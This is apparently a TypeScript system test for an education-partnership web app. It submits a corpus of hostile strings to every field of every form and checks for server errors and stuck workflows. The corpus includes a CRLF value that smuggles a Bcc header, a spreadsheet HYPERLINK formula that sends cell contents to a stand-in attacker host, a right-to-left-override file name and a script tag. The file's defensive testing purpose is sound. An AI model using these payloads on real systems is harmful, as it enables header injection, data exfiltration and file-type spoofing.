import type { BrowserContext, Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { createAdmin } from '../../core/people/identity.js';
import { type ApiStack, useApiStack } from '../support/api-stack.js';
import { useBrowser } from '../support/browser.js';
import { closedCycle } from '../support/inquiry.js';
import { waitFor } from '../support/mailbox.js';
import { signIn } from '../support/web.js';

/**
 * What schemathesis does to the API (test/system/fuzz.test.ts), done to every form of every page: each
 * field of each form, in turn, gets each of a corpus of hostile strings, the other fields as the
 * page filled them. No answer may be a 5xx, and no workflow may be left retrying what it was given.
 */
const stack: ApiStack = useApiStack('tandem-hostile-forms');

const HOSTILE: Record<string, string> = {
  nul: 'before\u0000after',
  crlf: 'line one\r\nBcc: everyone@example.com',
  huge: 'x'.repeat(300_000),
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"details")',
  rtlo: 'invoice\u202Egpj.exe',
  surrogate: 'lone \uD800 surrogate',
  emoji: 'Reading 📚 partners 🤝',
  markup: '<script>alert(1)</script>',
};

interface FormSpec {
  action: string;
  multipart: boolean;
  fields: [string, string][];
}

/** Every form on a page: where it posts, and its fields as the page filled them. */
async function formsOf(page: Page): Promise<FormSpec[]> {
  return page.$$eval('form[method="post"]', (forms) =>
    forms.map((f) => {
      const form = f as HTMLFormElement;
      const fields: [string, string][] = [];
      for (const el of Array.from(form.elements) as (HTMLInputElement | HTMLSelectElement | HTMLTextAreaElement)[]) {
        if (!el.name || (el as HTMLInputElement).type === 'file') continue;
        if ((el as HTMLInputElement).type === 'submit' || el.tagName === 'BUTTON') {
          if ((el as HTMLButtonElement).value) fields.push([el.name, (el as HTMLButtonElement).value]);
          continue;
        }
        if (
          ((el as HTMLInputElement).type === 'checkbox' || (el as HTMLInputElement).type === 'radio') &&
          !(el as HTMLInputElement).checked
        )
          continue;
        fields.push([el.name, el.value]);
      }
      // getAttribute: a field named "action" shadows the form's own property.
      return { action: form.getAttribute('action') ?? '', multipart: form.getAttribute('enctype') === 'multipart/form-data', fields };
    }),
  );
}

describe('every form of every page, against a corpus of hostile strings', () => {
  const browser = useBrowser();
  let context: BrowserContext;
  let page: Page;
  const ids = {
    partnership: '',
    review: '',
    commitment: '',
    evidence: '',
    submitted: '',
    cycle: '',
    cohort: '',
    planned: '',
    closed: '',
    district: '',
  };
  beforeAll(async () => {
    // The installation's admin: every form is theirs to send.
    await createAdmin(stack.database, { kind: 'command_line', name: 'test' }, { email: 'root@hostile.example' });
    const soon = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString();
    const created = await stack.call<{ id: string; firstReview: { id: string } }>(stack.adminKey, 'POST', '/partnerships', {
      name: 'Hostile literacy',
      district: { name: 'Hostile USD' },
      partner: { name: 'Hostile Partners' },
      timeZone: 'America/Chicago',
      firstReviewAt: new Date(Date.now() + 3_600_000).toISOString(),
      members: [
        { name: 'Root', email: 'root@hostile.example', role: 'district_lead' },
        { name: 'Ben Ode', email: 'ben@hostile.example', role: 'partner_lead' },
      ],
    });
    expect(created.status, created.text).toBe(201);
    ids.partnership = created.json.id;
    ids.review = created.json.firstReview.id;
    const owner = 'root@hostile.example';
    ids.commitment = (
      await stack.call<{ id: string }>(stack.adminKey, 'POST', `/partnerships/${ids.partnership}/commitments`, {
        ownerEmail: owner,
        side: 'district',
        description: 'Share the plan',
        dueAt: soon(20),
      })
    ).json.id;
    ids.evidence = (
      await stack.call<{ id: string }>(stack.adminKey, 'POST', `/partnerships/${ids.partnership}/evidence-requests`, {
        ownerEmail: owner,
        description: 'Walkthrough notes',
        kinds: ['observation'],
        dueAt: soon(20),
      })
    ).json.id;
    // Ben's, submitted: the form to accept it or send it back is the signed-in lead's.
    ids.submitted = (
      await stack.call<{ id: string }>(stack.adminKey, 'POST', `/partnerships/${ids.partnership}/evidence-requests`, {
        ownerEmail: 'ben@hostile.example',
        description: 'Survey results',
        kinds: ['survey'],
        dueAt: soon(20),
      })
    ).json.id;
    const item = await stack.call(stack.adminKey, 'POST', `/evidence-requests/${ids.submitted}/items`, { kind: 'survey', text: 'Results' });
    expect(item.status, item.text).toBe(201);
    const phases = Object.fromEntries(
      ['plan', 'do', 'study', 'act', 'reflect'].map((ph, i) => [ph, { ownerEmail: owner, dueAt: soon(10 * (i + 1)) }]),
    );
    ids.cycle = (
      await stack.call<{ id: string }>(stack.adminKey, 'POST', `/partnerships/${ids.partnership}/inquiry-cycles`, {
        question: 'Does it help?',
        phases,
      })
    ).json.id;
    ids.cohort = (await stack.call<{ id: string }>(stack.adminKey, 'POST', '/cohorts', { name: 'Hostile cohort' })).json.id;
    // The district's catalog with a partner and a pending application: the catalog's four forms.
    ids.district = (await stack.database.db.partnership.findUniqueOrThrow({ where: { id: ids.partnership } })).districtId;
    const listed = await stack.call<{ id: string }>(stack.adminKey, 'POST', `/organizations/${ids.district}/catalog`, {
      partner: { name: 'Hostile Partners' },
      pathways: ['pilot'],
      description: 'Coaching',
    });
    expect(listed.status, listed.text).toBe(201);
    const applied = await stack.call(stack.adminKey, 'POST', `/catalog-entries/${listed.json.id}/applications`, {
      team: 'Hostile Elementary',
      goals: 'Reading',
      pathway: 'pilot',
      contactName: 'Root',
      contactEmail: owner,
    });
    expect(applied.status, applied.text).toBe(201);
    // A closed cycle (Root's phases): the lesson's form.
    ids.closed = await closedCycle(stack, ids.partnership, 'Do data chats help?');
    // In planning, Root leading its district side: the checklist's answers and the activation.
    ids.planned = (
      await stack.call<{ id: string }>(stack.adminKey, 'POST', '/partnerships', {
        name: 'Hostile planning',
        district: { name: 'Hostile USD' },
        partner: { name: 'Hostile Partners' },
        timeZone: 'America/Chicago',
        firstReviewAt: soon(30),
        planning: true,
        members: [{ name: 'Root', email: owner, role: 'district_lead' }],
      })
    ).json.id;
    // A webhook of the district's, with a delivery: the forms of a subscription and of its deliveries.
    const hook = await stack.call<{ id: string }>(stack.adminKey, 'POST', '/webhooks', {
      url: 'https://hooks.hostile.example/tandem',
      events: ['commitment.completed'],
      organizationId: ids.district,
    });
    expect(hook.status, hook.text).toBe(201);
    const done = await stack.call(stack.adminKey, 'POST', `/partnerships/${ids.partnership}/commitments`, {
      ownerEmail: owner,
      side: 'district',
      description: 'Done at once',
      dueAt: soon(5),
    });
    expect(
      (await stack.call(stack.adminKey, 'POST', `/commitments/${(done.json as { id: string }).id}/complete`, { note: 'Sent' })).status,
    ).toBe(200);
    ({ context, page } = await signIn(stack, browser, 'root@hostile.example'));
  });

  it('answers every hostile value in every field of every form without a 5xx, and leaves no workflow retrying', async () => {
    const p = `/p/${ids.partnership}`;
    const pages = [
      '/settings',
      '/dashboard/new',
      '/dashboard/import',
      '/dashboard/school-calendar',
      '/dashboard/webhooks',
      '/dashboard/calendar',
      '/dashboard/cohorts',
      `/dashboard/cohorts/${ids.cohort}/inquiry`,
      p,
      `${p}/reviews/${ids.review}`,
      `${p}/commitments/${ids.commitment}`,
      `${p}/evidence/${ids.evidence}`,
      `${p}/evidence/${ids.submitted}`,
      `${p}/inquiry/new`,
      `${p}/goals/new`,
      `${p}/inquiry/${ids.cycle}`,
      `/p/${ids.planned}/planning`,
      `${p}/inquiry/${ids.closed}`,
      '/dashboard/planning-questions',
      `/dashboard/catalog?target=district:${ids.district}`,
      '/sign-in',
    ];
    const forms = new Map<string, FormSpec>();
    for (const path of pages) {
      await page.goto(`${stack.publicUrl}${path}`);
      for (const f of await formsOf(page)) if (!forms.has(f.action)) forms.set(f.action, f);
    }
    // Signing out would end the run; everything else is tried.
    forms.delete('/sign-out');
    expect(forms.size).toBeGreaterThan(15);
    // The browser's session and form cookies, sent by hand to the same server (by its localhost address).
    const cookie = (await context.cookies()).map((c) => `${c.name}=${c.value}`).join('; ');
    const failures: string[] = [];
    const statuses = new Map<number, number>();
    let sent = 0;
    for (const form of forms.values()) {
      const csrf = await page
        .locator('input[name="_csrf"]')
        .first()
        .inputValue()
        .catch(() => '');
      for (const [name] of form.fields) {
        if (name === '_csrf' || name === '_submission' || name === 'action') continue;
        for (const [kind, value] of Object.entries(HOSTILE)) {
          const fields = form.fields.map(([n, v]): [string, string] => [
            n,
            n === name ? value : n === '_csrf' ? csrf : n === '_submission' ? crypto.randomUUID() : v,
          ]);
          let body: URLSearchParams | FormData;
          if (form.multipart) {
            body = new FormData();
            for (const [n, v] of fields) body.append(n, v);
          } else body = new URLSearchParams(fields);
          const res = await fetch(`${stack.baseUrl}${form.action}`, {
            method: 'POST',
            body,
            headers: { cookie, accept: 'text/html' },
            redirect: 'manual',
          });
          sent++;
          statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
          if (res.status === 403 && (await res.clone().text()).includes('This form has expired'))
            failures.push(`${form.action}: the form's token was refused`);
          if (res.status >= 500) failures.push(`${form.action} ${name}=${kind}: ${res.status} ${(await res.text()).slice(0, 200)}`);
        }
      }
    }
    console.log(`[hostile forms] ${forms.size} forms, ${sent} submissions; answers: ${JSON.stringify(Object.fromEntries(statuses))}`);
    expect(failures).toEqual([]);
    expect(sent).toBeGreaterThan(200);
    // The handlers were reached: most answers are the form again with its mistakes (400), or a redirect.
    expect((statuses.get(400) ?? 0) + (statuses.get(303) ?? 0)).toBeGreaterThan(sent / 2);

    // Nothing left retrying: no activity listed as stuck, none still pending with a failed attempt.
    await new Promise((r) => setTimeout(r, 3_000));
    expect(await stack.database.db.stuckActivity.findMany()).toEqual([]);
    const retrying: string[] = [];
    for await (const wf of stack.temporal.workflow.list({ query: 'ExecutionStatus = "Running"' })) {
      const d = await stack.temporal.workflow.getHandle(wf.workflowId).describe();
      for (const a of d.raw.pendingActivities ?? [])
        if ((a.attempt ?? 1) > 1) retrying.push(`${wf.workflowId} ${a.activityType?.name} attempt ${a.attempt}`);
    }
    expect(retrying).toEqual([]);
    // And the partnership still works: its page shows, and its commitment can still be changed.
    await waitFor('the partnership page', async () => (await page.goto(`${stack.publicUrl}${p}`))?.status() === 200);
  });
});
